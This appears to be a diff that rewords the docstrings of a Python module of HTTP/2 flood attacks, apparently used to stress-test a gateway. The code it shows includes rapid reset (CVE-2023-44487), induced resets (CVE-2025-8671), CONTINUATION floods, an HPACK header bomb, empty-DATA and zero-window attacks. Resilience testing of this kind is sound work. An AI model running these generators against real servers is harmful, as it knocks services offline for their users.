@@ -1,4 +1,4 @@
-"""Attackers over HTTP/2: connections that begin well and then send one kind of frame without end (RFC 9113 §10.5)."""
+"""Attackers over HTTP/2: connections that begin correctly and then send one kind of frame without end (RFC 9113 §10.5)."""
 
 import contextlib
 import socket
@@ -21,9 +21,9 @@ from hyperframe.frame import (
 from floods.attacks import CONNECTIONS, Attack, Target, connect, going_on, send
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-# Streams of one connection; then another is opened.
+# Streams of one connection before the next is opened.
 STREAMS = 2_000
-# Frames in one piece.
+# Frames in one write.
 TOGETHER = 50
 
 
@@ -37,7 +37,7 @@ def headers(stream: int, fields: bytes, *flags: str) -> bytes:
 
 
 def flood(frames: Callable[[Target], Iterator[bytes]]) -> Attack:
-    """Connections one after the other, each with these frames until they end or the gateway has enough."""
+    """Connections one after the other, each with these frames until they end or the gateway closes."""
     def attack(port: int, target: Target, stop: Event) -> int:
         sent = 0
         for _ in going_on(stop):
@@ -55,14 +55,14 @@ def flood(frames: Callable[[Target], Iterator[bytes]]) -> Attack:
 
 
 def rapid_reset(target: Target) -> Iterator[bytes]:
-    """CVE-2023-44487: streams that are opened and given up at once."""
+    """CVE-2023-44487: streams that are opened and reset at once."""
     fields = block(target)
     for stream in range(1, STREAMS, 2):
         yield headers(stream, fields, "END_HEADERS", "END_STREAM") + RstStreamFrame(stream, error_code=8).serialize()
 
 
 def made_to_reset(target: Target) -> Iterator[bytes]:
-    """CVE-2025-8671: the same, by faults that have the server give them up."""
+    """CVE-2025-8671: the same, by errors that make the server reset them."""
     fields = block(target)
     for stream in range(1, STREAMS, 2):
         yield headers(stream, fields, "END_HEADERS") + WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()
@@ -77,14 +77,14 @@ def continuation(target: Target) -> Iterator[bytes]:
 
 
 def empty_continuation(target: Target) -> Iterator[bytes]:
-    """The same, of nothing."""
+    """The same, with empty fragments."""
     yield headers(1, block(target))
     for _ in range(STREAMS):
         yield ContinuationFrame(1, b"").serialize() * TOGETHER
 
 
 def many_headers(target: Target) -> Iterator[bytes]:
-    """An index of one byte for a header of four thousand, over and over."""
+    """A one-byte index of a header of four thousand bytes, over and over."""
     encoder = hpack.Encoder()
     first = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", target.host), (":path", "/page"),
                             ("x-bomb", "y" * 3900)])
@@ -96,7 +96,7 @@ def many_headers(target: Target) -> Iterator[bytes]:
 
 
 def over_and_over(frame: Frame) -> Callable[[Target], Iterator[bytes]]:
-    """One frame that says nothing."""
+    """One frame without effect."""
     def frames(_: Target) -> Iterator[bytes]:
         for _ in range(STREAMS):
             yield frame.serialize() * TOGETHER
@@ -104,7 +104,7 @@ def over_and_over(frame: Frame) -> Callable[[Target], Iterator[bytes]]:
 
 
 def empty_data(target: Target) -> Iterator[bytes]:
-    """A body of nothing, in very many pieces."""
+    """An empty body in very many frames."""
     upload = [(":method", "POST"), (":scheme", "http"), (":authority", target.host), (":path", "/public/x")]
     yield headers(1, hpack.Encoder().encode(upload), "END_HEADERS")
     for _ in range(STREAMS):
@@ -112,7 +112,7 @@ def empty_data(target: Target) -> Iterator[bytes]:
 
 
 def no_window(port: int, target: Target, stop: Event) -> int:
-    """Asks for much, lets nothing come, and waits. Not for all that it could: the upstream is not put to the test."""
+    """Requests large bodies with a closed window, and waits. Not as many as it could: the upstream is not under test."""
     closed = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
     fields, asked = block(target, "/public/large"), 0
     with contextlib.ExitStack() as all_:
@@ -128,7 +128,7 @@ def no_window(port: int, target: Target, stop: Event) -> int:
 
 
 def scattered_reset(port: int, target: Target, stop: Event) -> int:
-    """Rapid reset over many connections, a little on each, which stays within what one may send."""
+    """Rapid reset over many connections, each within the allowance of one."""
     fields, sent = block(target), 0
     with contextlib.ExitStack() as all_:
         held: list[socket.socket] = []
